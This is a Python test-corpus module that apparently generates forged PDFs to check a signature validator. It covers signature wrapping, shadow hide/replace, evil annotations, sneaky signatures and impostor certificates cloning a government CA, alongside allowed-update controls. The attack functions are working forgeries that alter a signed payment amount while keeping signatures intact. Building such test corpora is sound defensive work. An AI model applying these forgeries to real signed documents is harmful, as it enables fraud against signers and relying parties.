    forged_offset = n + len(probe)
    gap = head + xref_at(forged_offset) + forged + b"% padding\n"
    new_c = c + len(gap)
    br_start, br_end = lay.br_slot[0] - c, lay.br_slot[1] - c
    new_br = b"[0 %d %d %d]" % (b, new_c, d)
    gap = gap[:br_start] + new_br.ljust(br_end - br_start) + gap[br_end:]
    assert len(gap) == new_c - c
    return signed[:c] + gap + tail


def swa_gap_objects_new_xref(signed: bytes) -> bytes:
    """SWA variant 2: /ByteRange ``[0 b c* d]`` with the original tail copied after a
    gap holding the attacker's objects; an update appended after the copy points into
    the gap (the signed ranges end at a ``%%EOF``, like a signed earlier revision)."""
    lay = sig_layout(signed)
    _, b, c, d = lay.byte_range
    n = last_startxref(signed)
    tail = signed[c:]
    head = signed[c:n]
    contents = _reader(signed).root["/Pages"]["/Kids"][0].raw_get("/Contents")
    forged_offset = n  # right where the original xref was
    forged = b"%d 0 obj\n%s\nendobj\n" % (contents.idnum, stream(_forged_content(signed)))
    gap = head + forged
    new_c = c + len(gap)
    br_start, br_end = lay.br_slot[0] - c, lay.br_slot[1] - c
    new_br = b"[0 %d %d %d]" % (b, new_c, d)
    gap = gap[:br_start] + new_br.ljust(br_end - br_start) + gap[br_end:]
    body = signed[:c] + gap + tail
    copied_xref = new_c + (n - c)
    at = len(body)
    update = _xref_section({contents.idnum: forged_offset}, with_free_head=False)
    update += _trailer_for_update(signed, size=_size(signed), prev=copied_xref)
    update += b"startxref\n%d\n%%%%EOF\n" % at
    return body + update


# --------------------------------------------------------------------------------------
# Shadow attacks (Mainka, Mladenov, Rohlmann, NDSS 2021)
#
# The attacker prepares the document the victim signs so that it already holds the
# shadow content, invisible; after signing, an incremental update that looks harmless
# (an object redefined, an annotation removed, a font swapped, only an xref) reveals it.

_COVER_BOX = b"[60 728 420 760]"


def shadow_hide_xobject_signed() -> bytes:
    """The signed "hide" document: the forged amount is drawn first, then a form
    XObject (object 6) paints a white box with the genuine amount over it."""
    cover = stream(b"1 1 1 rg 60 728 360 32 re f 0 g\n" + amount_line(GENUINE),
                   b"/Type /XObject /Subtype /Form /BBox " + _COVER_BOX
                   + b" /Resources << /Font << /F1 5 0 R >> >> ")
    content = TITLE + amount_line(FORGED) + b"q /Cover Do Q\n"
    page = _page(b"/Font << /F1 5 0 R >> /XObject << /Cover 6 0 R >>")
    return sign(build_pdf([(1, _CATALOG), (2, _PAGES), (3, page), (4, stream(content)),
                           (5, HELVETICA), (6, cover)]))


def shadow_hide_xobject(signed: bytes) -> bytes:
    """Shadow hide (hide via referenced object): the update redefines the covering
    form XObject as empty, uncovering the forged amount."""
    empty = stream(b"", b"/Type /XObject /Subtype /Form /BBox " + _COVER_BOX + b" ")
    return append_update(signed, {6: empty})


def shadow_hide_annotation_signed() -> bytes:
    """The signed "hide" document: the page content shows the forged amount, covered
    by a printable Stamp annotation (object 6, appearance object 7) whose appearance
    is a white box with the genuine amount."""
    appearance = stream(b"1 1 1 rg 0 0 360 32 re f 0 g\n"
                        b"BT /F1 12 Tf 12 12 Td (Chi tra so tien: 1.000.000 VND) Tj ET",
                        b"/Type /XObject /Subtype /Form /BBox [0 0 360 32] "
                        b"/Resources << /Font << /F1 5 0 R >> >> ")
    annot = (b"<< /Type /Annot /Subtype /Stamp /Rect " + _COVER_BOX
             + b" /F 4 /P 3 0 R /AP << /N 7 0 R >> /NM (cover) >>")
    page = _page(extra=b"/Annots [6 0 R] ")
    return sign(build_pdf([(1, _CATALOG), (2, _PAGES), (3, page),
                           (4, stream(TITLE + amount_line(FORGED))), (5, HELVETICA),
                           (6, annot), (7, appearance)]))


def shadow_hide_annotation_removed(signed: bytes) -> bytes:
    """Shadow hide via an overlay annotation: the update removes the covering annotation
    from the page's /Annots (the signature widget stays)."""
    page_ref = _page_ref(signed)
    page = _reader(signed).root["/Pages"]["/Kids"][0]
    annots = [a for a in page.raw_get("/Annots") if a.idnum != 6]
    body = serialize(page)
    body = re.sub(rb"/Annots \[[^\]]*\]",
                  b"/Annots [ " + b" ".join(b"%d 0 R" % a.idnum for a in annots) + b" ]", body)
    return append_update(signed, {page_ref.idnum: body})


def shadow_hide_annotation_flagged(signed: bytes) -> bytes:
    """Shadow hide via an overlay annotation: the update sets the covering annotation's
    Hidden flag (ISO 32000-1 §12.5.3, bit 2) instead of removing it."""
    annot = serialize(_reader(signed).get_object(generic.Reference(6, 0)))
    return append_update(signed, {6: annot.replace(b"/F 4", b"/F 6")})


def shadow_replace_font(signed: bytes) -> bytes:
    """Shadow replace (replace via overwrite): the update redefines the font the amount
    is set in; its /Differences draw glyph "nine" for code 49 ("1"), so the unchanged
    content stream now reads 9.000.000."""
    font = _reader(signed).root["/Pages"]["/Kids"][0]["/Resources"]["/Font"].raw_get("/F1")
    swapped = (b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding "
               b"<< /Type /Encoding /BaseEncoding /WinAnsiEncoding /Differences [49 /nine] >> >>")
    return append_update(signed, {font.idnum: swapped})


def shadow_overlay_signed() -> bytes:
    """The signed "replace via overlay" document: the page draws an (empty) form
    XObject (object 6) over the amount; nothing of it is visible when signing."""
    empty = stream(b"", b"/Type /XObject /Subtype /Form /BBox " + _COVER_BOX
                   + b" /Resources << /Font << /F1 5 0 R >> >> ")
    content = TITLE + amount_line(GENUINE) + b"q /Overlay Do Q\n"
    page = _page(b"/Font << /F1 5 0 R >> /XObject << /Overlay 6 0 R >>")
    return sign(build_pdf([(1, _CATALOG), (2, _PAGES), (3, page), (4, stream(content)),
                           (5, HELVETICA), (6, empty)]))


def shadow_replace_overlay(signed: bytes) -> bytes:
    """Shadow replace via overlay: the update fills the (signed, empty) overlay XObject
    with a white box and the forged amount."""
    cover = stream(b"1 1 1 rg 60 728 360 32 re f 0 g\n" + amount_line(FORGED),
                   b"/Type /XObject /Subtype /Form /BBox " + _COVER_BOX
                   + b" /Resources << /Font << /F1 5 0 R >> >> ")
    return append_update(signed, {6: cover})


def shadow_hide_and_replace_signed() -> bytes:
    """The signed "hide-and-replace" document: a shadow definition of the content
    stream (object 4, forged amount) sits in the signed bytes before the real one;
    the xref points at the real one, so the victim sees and signs the genuine amount."""
    return sign(build_pdf([(4, stream(TITLE + amount_line(FORGED))),
                           (1, _CATALOG), (2, _PAGES), (3, _page()),
                           (4, stream(TITLE + amount_line(GENUINE))), (5, HELVETICA)]))


def shadow_hide_and_replace_xref_only(signed: bytes) -> bytes:
    """Shadow hide-and-replace: the update holds no object at all, only an xref
    section that maps object 4 to the shadow definition inside the signed bytes, and
    a trailer. Nothing new is "added"; the document shown changes."""
    shadow = signed.index(b"4 0 obj\n")
    assert FORGED in signed[shadow:shadow + 300]
    out = bytearray(signed)
    at = len(out)
    out += _xref_section({4: shadow}, with_free_head=False)
    out += _trailer_for_update(signed, size=_size(signed), prev=last_startxref(signed))
    out += b"startxref\n%d\n%%%%EOF\n" % at
    return bytes(out)


def shadow_hide_and_replace_full(signed: bytes) -> bytes:
    """Shadow hide-and-replace, full set: the update redefines every object of the
    document (catalog, page tree, page, content, font) with a replacement set and a new
    xref; the catalog keeps the AcroForm, the page keeps the signature widget."""
    reader = _reader(signed)
    root_ref = reader.root_ref
    catalog = reader.root
    pages_ref = catalog.raw_get("/Pages")
    page_ref = _page_ref(signed)
    page = catalog["/Pages"]["/Kids"][0]
    content_ref = page.raw_get("/Contents")
    font_ref = page["/Resources"]["/Font"].raw_get("/F1")
    return append_update(signed, {
        root_ref.idnum: serialize(catalog),
        pages_ref.idnum: serialize(catalog["/Pages"]),
        page_ref.idnum: serialize(page),
        content_ref.idnum: stream(TITLE.replace(b"45", b"46") + amount_line(FORGED)),
        font_ref.idnum: HELVETICA.replace(b"/Helvetica", b"/Helvetica-Bold"),
    })


# --------------------------------------------------------------------------------------
# Evil annotations and sneaky signatures (Rohlmann, Mladenov, Mainka, Schwenk, "Breaking
# the Specification: PDF Certification", IEEE S&P 2021)


def _overlay_appearance(writer: IncrementalPdfFileWriter) -> generic.IndirectObject:
    """A form XObject: white box, forged amount (the cover an attacker lays on top)."""
    font = writer.root["/Pages"]["/Kids"][0]["/Resources"]["/Font"].raw_get("/F1")
    ap = generic.StreamObject({
        generic.NameObject("/Type"): generic.NameObject("/XObject"),
        generic.NameObject("/Subtype"): generic.NameObject("/Form"),
        generic.NameObject("/BBox"): generic.ArrayObject(
            [generic.NumberObject(v) for v in (0, 0, 360, 32)]),
        generic.NameObject("/Resources"): generic.DictionaryObject({
            generic.NameObject("/Font"): generic.DictionaryObject(
                {generic.NameObject("/F1"): font})}),
    }, stream_data=b"1 1 1 rg 0 0 360 32 re f 0 g BT /F1 12 Tf 12 12 Td "
                   b"(Chi tra so tien: 9.000.000 VND) Tj ET")
    return writer.add_object(ap)


def _cover_rect() -> generic.ArrayObject:
    return generic.ArrayObject([generic.NumberObject(v) for v in (60, 728, 420, 760)])


def evil_annotation(signed: bytes) -> bytes:
    """Evil annotation: a FreeText annotation added after signing, its appearance a
    white box with the forged amount laid exactly over the genuine one. Annotations
    are not among the updates signsvc allows (verdicts.ModificationLevel.ALLOWED), and
    under DocMDP P=2 ISO 32000-1 Table 254 forbids them."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed))
    page = writer.root["/Pages"]["/Kids"][0]
    annot = writer.add_object(generic.DictionaryObject({
        generic.NameObject("/Type"): generic.NameObject("/Annot"),
        generic.NameObject("/Subtype"): generic.NameObject("/FreeText"),
        generic.NameObject("/Rect"): _cover_rect(),
        generic.NameObject("/F"): generic.NumberObject(4),
        generic.NameObject("/DA"): generic.TextStringObject("/Helv 12 Tf 0 g"),
        generic.NameObject("/Contents"): generic.TextStringObject(
            "Chi tra so tien: 9.000.000 VND"),
        generic.NameObject("/AP"): generic.DictionaryObject(
            {generic.NameObject("/N"): _overlay_appearance(writer)}),
        generic.NameObject("/P"): _page_ref_in(writer),
    }))
    annots = page.get("/Annots", generic.ArrayObject())
    annots.append(annot)
    page[generic.NameObject("/Annots")] = annots
    writer.update_container(page)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _page_ref_in(writer: IncrementalPdfFileWriter) -> generic.IndirectObject:
    return writer.root["/Pages"]["/Kids"].raw_get(0)  # type: ignore[no-any-return]


def sneaky_signature_field(signed: bytes) -> bytes:
    """Sneaky signature: an empty signature field added after signing (signing is what
    DocMDP P=2 permits), whose widget appearance lays the forged amount over the
    genuine one. Nobody ever signs it."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed))
    page = writer.root["/Pages"]["/Kids"][0]
    field = writer.add_object(generic.DictionaryObject({
        generic.NameObject("/FT"): generic.NameObject("/Sig"),
        generic.NameObject("/T"): generic.TextStringObject("Signature9"),
        generic.NameObject("/Type"): generic.NameObject("/Annot"),
        generic.NameObject("/Subtype"): generic.NameObject("/Widget"),
        generic.NameObject("/Rect"): _cover_rect(),
        generic.NameObject("/F"): generic.NumberObject(4),
        generic.NameObject("/P"): _page_ref_in(writer),
        generic.NameObject("/AP"): generic.DictionaryObject(
            {generic.NameObject("/N"): _overlay_appearance(writer)}),
    }))
    page["/Annots"].append(field)
    writer.update_container(page)
    acroform = writer.root["/AcroForm"]
    acroform["/Fields"].append(field)
    writer.update_container(acroform)
    writer.update_container(writer.root["/AcroForm"]["/Fields"])
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def signature_widget_restyled(signed: bytes) -> bytes:
    """The signed field's own widget moved over the amount and given an appearance
    that shows the forged amount (the signature dictionary is untouched)."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed))
    fields = writer.root["/AcroForm"]["/Fields"]
    ref = next(r for r in fields if r.get_object().get("/FT") == "/Sig")
    widget = ref.get_object()
    widget[generic.NameObject("/Rect")] = _cover_rect()
    widget[generic.NameObject("/AP")] = generic.DictionaryObject(
        {generic.NameObject("/N"): _overlay_appearance(writer)})
    writer.update_container(widget)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# --------------------------------------------------------------------------------------
# Allowed updates: must NOT be reported as attacks


def allowed_second_signature(signed: bytes) -> bytes:
    """A second (organisation) signature after the leader's (Decree 30/2020 Art. 14)."""
    return sign(signed, signer="org-omon", field="Signature2")


def form_document() -> bytes:
    """One page with an empty text field "SoKyHieu" (document number) in the AcroForm."""
    field = (b"<< /FT /Tx /T (SoKyHieu) /Type /Annot /Subtype /Widget /Rect [72 690 300 712] "
             b"/P 3 0 R /F 4 /DA (/Helv 12 Tf 0 g) /V () >>")
    acroform = (b"<< /Fields [7 0 R] /DA (/Helv 0 Tf 0 g) "
                b"/DR << /Font << /Helv 5 0 R >> >> >>")
    return build_pdf([(1, b"<< /Type /Catalog /Pages 2 0 R /AcroForm 6 0 R >>"), (2, _PAGES),
                      (3, _page(extra=b"/Annots [7 0 R] ")),
                      (4, stream(TITLE + amount_line(GENUINE))), (5, HELVETICA),
                      (6, acroform), (7, field)])


def certified_form() -> bytes:
    """:func:`form_document` with a certification signature, DocMDP P=2 (form filling
    and signing allowed, ISO 32000-1 Table 254)."""
    return sign(form_document(), certify=MDPPerm.FILL_FORMS)


def allowed_form_fill(certified: bytes, value: str = "45/QD-UBND") -> bytes:
    """The text field filled (value and appearance) in an update after the
    certification: permitted by P=2."""
    writer = IncrementalPdfFileWriter(io.BytesIO(certified))
    field = next(f for f in (r.get_object() for r in writer.root["/AcroForm"]["/Fields"])
                 if f.get("/T") == "SoKyHieu")
    text = value.encode("latin-1")
    ap = generic.StreamObject({
        generic.NameObject("/Type"): generic.NameObject("/XObject"),
        generic.NameObject("/Subtype"): generic.NameObject("/Form"),
        generic.NameObject("/BBox"): generic.ArrayObject(
            [generic.NumberObject(v) for v in (0, 0, 228, 22)]),
        generic.NameObject("/Resources"): generic.DictionaryObject({
            generic.NameObject("/Font"): generic.DictionaryObject({
                generic.NameObject("/Helv"): writer.root["/AcroForm"]["/DR"]["/Font"]
                .raw_get("/Helv")})}),
    }, stream_data=b"/Tx BMC q BT /Helv 12 Tf 2 6 Td (" + text + b") Tj ET Q EMC")
    field[generic.NameObject("/V")] = generic.TextStringObject(value)
    field[generic.NameObject("/AP")] = generic.DictionaryObject(
        {generic.NameObject("/N"): writer.add_object(ap)})
    writer.update_container(field)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def allowed_b_lta(tsa_url: str, *, trust: Path = GOV_ROOT) -> bytes:
    """:func:`base_document` signed by signsvc at PAdES B-LTA: signature time-stamp,
    DSS (certificates, CRLs/OCSP) and a document time-stamp after the signature."""
    import signsvc
    from drivers import Pkcs12Key

    with tempfile.TemporaryDirectory() as tmp:
        src, out = Path(tmp) / "in.pdf", Path(tmp) / "out.pdf"
        src.write_bytes(base_document())
        signsvc.sign_pdf(src, out, Pkcs12Key.load(PKI / "official-rsa2048.p12", "1234"),
                         level="B-LTA", tsa_url=tsa_url,
                         trust=[x509.load_pem_x509_certificate(trust.read_bytes())])
        return out.read_bytes()


# --------------------------------------------------------------------------------------
# The corpus

Family = Literal["USF", "ISA", "SWA", "shadow", "EAA/SSA"]
PyhankoSays = Literal["rejects", "accepts", "no-signature", "error"]


@dataclass(frozen=True)
class Attack:
    """One attacked file and what independent tools say about it."""

    name: str
    family: Family
    base: Callable[[], bytes]
    """Builds the signed document the attack starts from (validly signed)."""
    attack: Callable[[bytes], bytes]
    pyhanko: PyhankoSays
    """What pyHanko 0.38's validator says (``validate_pdf_signature``, bottom line over
    every signature): "accepts" is a pyHanko finding, not what signsvc may do."""
    signed_bytes_intact: bool
    """The original signature's /ByteRange still names bytes whose hash equals its
    messageDigest (the attack keeps the signature cryptographically valid and relies
    on the verifier missing what was done around it)."""
    shown_by_poppler: bool = True
    """Poppler (which follows the xref, as ISO 32000 says) renders the forgery. False
    for objects no xref lists (only readers that rebuild the xref by scanning show
    them) and for JavaScript (poppler runs none)."""

    def build(self) -> bytes:
        return self.attack(self.base())


def _a(name: str, family: Family, attack: Callable[[bytes], bytes], pyhanko: PyhankoSays,
       intact: bool, base: Callable[[], bytes] = signed_base, *,
       shown_by_poppler: bool = True) -> Attack:
    return Attack(name, family, base, attack, pyhanko, intact, shown_by_poppler)


ATTACKS: tuple[Attack, ...] = (
    _a("usf-byterange-missing", "USF", usf_byterange_missing, "error", False),
    _a("usf-byterange-null", "USF", usf_byterange_null, "error", False),
    _a("usf-byterange-empty", "USF", usf_byterange_empty, "rejects", False),
    _a("usf-byterange-three-numbers", "USF", usf_byterange_three_numbers, "error", False),
    _a("usf-byterange-negative", "USF", usf_byterange_negative, "rejects", False),
    _a("usf-byterange-reals", "USF", usf_byterange_reals, "error", False),
    _a("usf-byterange-strings", "USF", usf_byterange_strings, "error", False),
    _a("usf-byterange-not-from-zero", "USF", usf_byterange_not_from_zero, "rejects", False),
    _a("usf-byterange-overlapping", "USF", usf_byterange_overlapping, "rejects", False),
    _a("usf-byterange-beyond-eof", "USF", usf_byterange_beyond_eof, "rejects", False),
    _a("usf-contents-missing", "USF", usf_contents_missing, "error", False),
    _a("usf-contents-empty", "USF", usf_contents_empty, "error", False),
    _a("usf-contents-null", "USF", usf_contents_null, "error", False),
    _a("usf-contents-literal-string", "USF", usf_contents_literal_string, "rejects", False),
    _a("usf-field-value-dangling", "USF", usf_field_value_dangling, "error", False),
    _a("isa-update-with-xref", "ISA", isa_update_with_xref, "rejects", True),
    _a("isa-update-without-xref", "ISA", isa_update_without_xref, "accepts", True,
       shown_by_poppler=False),
    _a("isa-page-and-catalog", "ISA", isa_page_and_catalog, "rejects", True),
    _a("isa-same-object-number", "ISA", isa_same_object_number, "rejects", True),
    _a("isa-xref-without-prev", "ISA", isa_xref_without_prev, "rejects", True),
    _a("isa-page-added", "ISA", isa_page_added, "rejects", True),
    _a("isa-open-action-javascript", "ISA", isa_open_action_javascript, "rejects", True,
       shown_by_poppler=False),
    _a("isa-object-stream", "ISA", isa_object_stream, "rejects", True),
    _a("isa-dss-smuggle", "ISA", isa_dss_smuggle, "rejects", True),
    _a("isa-with-second-signature", "ISA", isa_with_second_signature, "rejects", True),
    _a("isa-trailer-root-swap", "ISA", isa_trailer_root_swap, "rejects", True),
    _a("isa-stowaway-in-allowed-update", "ISA", isa_stowaway_in_allowed_update, "accepts",
       True, certified_form, shown_by_poppler=False),
    _a("isa-stowaway-hex-xref-stream", "ISA", isa_stowaway_hex_xref_stream, "accepts", True,
       shown_by_poppler=False),
    _a("isa-without-xref-after-hex-xref-stream", "ISA",
       isa_without_xref_after_hex_xref_stream, "accepts", True, shown_by_poppler=False),
    _a("swa-relocated-tail", "SWA", swa_relocated_tail, "rejects", True),
    _a("swa-gap-objects-new-xref", "SWA", swa_gap_objects_new_xref, "rejects", True),
    _a("shadow-hide-xobject", "shadow", shadow_hide_xobject, "rejects", True,
       shadow_hide_xobject_signed),
    _a("shadow-hide-annotation-removed", "shadow", shadow_hide_annotation_removed, "rejects",
       True, shadow_hide_annotation_signed),
    _a("shadow-hide-annotation-flagged", "shadow", shadow_hide_annotation_flagged, "rejects",
       True, shadow_hide_annotation_signed),
    _a("shadow-replace-font", "shadow", shadow_replace_font, "rejects", True),
    _a("shadow-replace-overlay", "shadow", shadow_replace_overlay, "rejects", True,
       shadow_overlay_signed),
    _a("shadow-hide-and-replace-xref-only", "shadow", shadow_hide_and_replace_xref_only,
       "rejects", True, shadow_hide_and_replace_signed),
    _a("shadow-hide-and-replace-full", "shadow", shadow_hide_and_replace_full, "rejects",
       True),
    _a("evil-annotation-approval", "EAA/SSA", evil_annotation, "rejects", True),
    _a("evil-annotation-certified-p2", "EAA/SSA", evil_annotation, "rejects", True,
       certified_form),
    _a("sneaky-signature-field-certified-p2", "EAA/SSA", sneaky_signature_field, "rejects",
       True, certified_form),
    _a("signature-widget-restyled", "EAA/SSA", signature_widget_restyled, "rejects", True),
)
"""Every attack; each must come out TOTAL-FAILED or with a disallowed modification."""

BASES: dict[str, Callable[[], bytes]] = {
    "signed-base": signed_base,
    "shadow-hide-xobject-signed": shadow_hide_xobject_signed,
    "shadow-hide-annotation-signed": shadow_hide_annotation_signed,
    "shadow-overlay-signed": shadow_overlay_signed,
    "shadow-hide-and-replace-signed": shadow_hide_and_replace_signed,
    "certified-form": certified_form,
}
"""The validly signed documents the attacks start from (controls: must pass)."""


# --------------------------------------------------------------------------------------
# Impostors: well-formed, intact signatures by certificates that only look trusted


def _copy_extensions(builder: x509.CertificateBuilder, cert: x509.Certificate,
                     skip: frozenset[x509.ObjectIdentifier] = frozenset()
                     ) -> x509.CertificateBuilder:
    for ext in cert.extensions:
        if ext.oid not in skip:
            builder = builder.add_extension(ext.value, ext.critical)
    return builder


ImpostorKind = Literal["self-signed", "fake-intermediate", "fake-intermediate-ec"]


def impostor_signer(kind: ImpostorKind) -> signers.SimpleSigner:
    """A signer whose certificate copies ``official-rsa2048``'s subject, serial number
    and extensions, with a key the attacker made.

    ``self-signed``: the leaf signs itself. ``fake-intermediate``: it is issued by a
    fake "gov-ca-g2" with the real one's subject, issuer, serial number and key
    identifiers (so name and AKI/SKI matching alone would chain it to gov-root-g2),
    which signs itself with an RSA key as the real root would; ``-ec``: the same, the
    fake CA signed with ECDSA although the root's key is RSA. Keys are generated per
    call.
    """
    real_leaf = x509.load_pem_x509_certificate((PKI / "official-rsa2048.crt.pem").read_bytes())
    real_ca = x509.load_pem_x509_certificate((PKI / "gov-ca-g2.crt.pem").read_bytes())
    leaf_key = ec.generate_private_key(ec.SECP256R1())
    builder = (x509.CertificateBuilder().subject_name(real_leaf.subject)
               .serial_number(real_leaf.serial_number).public_key(leaf_key.public_key())
               .not_valid_before(real_leaf.not_valid_before_utc)
               .not_valid_after(real_leaf.not_valid_after_utc))
    ski = x509.SubjectKeyIdentifier.from_public_key(leaf_key.public_key())
    chain: list[x509.Certificate] = []
    if kind == "self-signed":
        builder = _copy_extensions(builder.issuer_name(real_leaf.subject), real_leaf,
                                   frozenset({x509.oid.ExtensionOID.SUBJECT_KEY_IDENTIFIER,
                                              x509.oid.ExtensionOID.AUTHORITY_KEY_IDENTIFIER}))
        leaf = builder.add_extension(ski, False).sign(leaf_key, hashes.SHA256())
    else:
        ca_key: rsa.RSAPrivateKey | ec.EllipticCurvePrivateKey = (
            ec.generate_private_key(ec.SECP256R1()) if kind == "fake-intermediate-ec"
            else rsa.generate_private_key(public_exponent=65537, key_size=2048))
        fake_ca = _copy_extensions(
            x509.CertificateBuilder().subject_name(real_ca.subject).issuer_name(real_ca.issuer)
            .serial_number(real_ca.serial_number).public_key(ca_key.public_key())
            .not_valid_before(real_ca.not_valid_before_utc)
            .not_valid_after(real_ca.not_valid_after_utc), real_ca,
        ).sign(ca_key, hashes.SHA256())
        builder = _copy_extensions(builder.issuer_name(real_ca.subject), real_leaf,
                                   frozenset({x509.oid.ExtensionOID.SUBJECT_KEY_IDENTIFIER}))
        leaf = builder.add_extension(ski, False).sign(ca_key, hashes.SHA256())
        chain = [fake_ca]

    def asn1(cert: x509.Certificate) -> asn1_x509.Certificate:
        return asn1_x509.Certificate.load(cert.public_bytes(serialization.Encoding.DER))

    key_der = leaf_key.private_bytes(serialization.Encoding.DER,
                                     serialization.PrivateFormat.PKCS8,
                                     serialization.NoEncryption())
    return signers.SimpleSigner(
        signing_cert=asn1(leaf), signing_key=asn1_keys.PrivateKeyInfo.load(key_der),
        cert_registry=SimpleCertificateStore.from_certs([asn1(c) for c in chain]))


def impostor_signed(kind: ImpostorKind) -> bytes:
    """:func:`base_document` signed by :func:`impostor_signer` (B-B, PAdES)."""
    meta = signers.PdfSignatureMetadata(field_name="Signature1", md_algorithm="sha256",
                                        subfilter=SigSeedSubFilter.PADES)
    writer = IncrementalPdfFileWriter(io.BytesIO(base_document()))
    pdf_signer = _FixedTimePdfSigner(meta, impostor_signer(kind), signing_time=SIGNING_TIME)
    return bytes(pdf_signer.sign_pdf(writer).getvalue())


IMPOSTORS: dict[str, Callable[[], bytes]] = {
    "impostor-self-signed": lambda: impostor_signed("self-signed"),
    "impostor-fake-intermediate": lambda: impostor_signed("fake-intermediate"),
    "impostor-fake-intermediate-ec": lambda: impostor_signed("fake-intermediate-ec"),
}
"""Intact signatures whose chain only *looks* like the trusted one: never TOTAL-PASSED."""


# --------------------------------------------------------------------------------------
# Independent checks


def signed_digest_matches(data: bytes) -> bool:
    """Does the hash of the bytes the first signature's /ByteRange names equal its CMS
    messageDigest? (No PDF parser: regexes and asn1crypto only, so a /ByteRange or
    /Contents that is not four integers and a hex string counts as no match.)"""
    try:
        lay = sig_layout(data, 0)
        der = bytes.fromhex(data[lay.contents[0] + 1:lay.contents[1] - 1].decode())
        signed_data = cms.ContentInfo.load(der.rstrip(b"\0"))["content"]
        attrs = signed_data["signer_infos"][0]["signed_attrs"]
    except (IndexError, ValueError):
        return False
    a, b, c, d = lay.byte_range
    wanted = next(x["values"][0].native for x in attrs if x["type"].native == "message_digest")
    return hashlib.sha256(data[a:a + b] + data[c:c + d]).digest() == wanted


@dataclass(frozen=True)
class PyhankoVerdict:
    says: PyhankoSays
    detail: str


def pyhanko_verdict(path: Path, *, moment: datetime | None = VALIDATION_TIME) -> PyhankoVerdict:
    """pyHanko's validator on every signature (trust: gov-root-g2, revocation soft-fail,
    no fetching): "accepts" when there is a signature and every bottom line is true."""
    try:
        statuses = pyhanko_validate(path, roots=[GOV_ROOT], moment=moment)
    except Exception as exc:  # pyHanko has no common error root (DOMAIN.md)
        return PyhankoVerdict("error", f"{type(exc).__name__}: {exc}"[:300])
    if not statuses:
        return PyhankoVerdict("no-signature", "no signature found")
    detail = "; ".join(f"{s.field_name}: bottom_line={s.bottom_line} intact={s.intact} "
                       f"coverage={s.coverage} modification={s.modification_level} "
                       f"docmdp_ok={s.docmdp_ok}" for s in statuses)
    ok = all(s.bottom_line for s in statuses)
    return PyhankoVerdict("accepts" if ok else "rejects", detail)
